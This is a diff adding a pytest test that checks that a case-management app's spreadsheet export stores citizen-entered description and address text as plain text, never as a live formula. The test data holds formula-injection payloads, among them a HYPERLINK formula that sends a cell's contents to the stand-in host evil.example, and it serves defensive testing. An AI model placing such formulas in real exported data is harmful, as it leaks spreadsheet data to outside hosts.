@@ -102,6 +102,26 @@ def test_the_search_filters_and_exports(staff, geography, make_case, login):
     assert everything.max_row == 3
 
 
+@pytest.mark.parametrize("description, address", [
+    ('=HYPERLINK("http://evil.example/?x="&B2,"详情")', "=1+2"),
+    ("+86 138 0000 0000", "@SUM(A1)"),
+    ("-1+2", "\t=1+2"),
+    ("\r=1+2", "普通地址"),
+])
+def test_citizen_text_is_exported_as_text_never_as_a_formula(staff, make_case, login, description, address):
+    case = make_case(State.FILED, description=description)
+    Case.objects.filter(pk=case.pk).update(address=address)
+    sheet = load_workbook(io.BytesIO(login(staff.intake).get("/cases/export/").content)).active
+    row = list(sheet.iter_rows(min_row=2))[0]
+    address_cell, description_cell = row[17], row[18]
+    # The file is XML: a carriage return reads back as the line break XML turns it into.
+    assert (description_cell.data_type, description_cell.value, description_cell.quotePrefix) == (
+        "s", description.replace("\r", "\n"), True)
+    assert (address_cell.data_type, address_cell.value) == ("s", address)
+    assert address_cell.quotePrefix == (address != "普通地址")
+    assert (row[15].data_type, row[15].value) == ("n", 0)  # rework count stays a number
+
+
 def test_an_export_with_bad_filters_goes_back_to_the_search(staff, login):
     response = login(staff.intake).get("/cases/export/", {"grid": "abc"})
     assert response.status_code == 302 and response["Location"] == "/cases/search/?grid=abc"
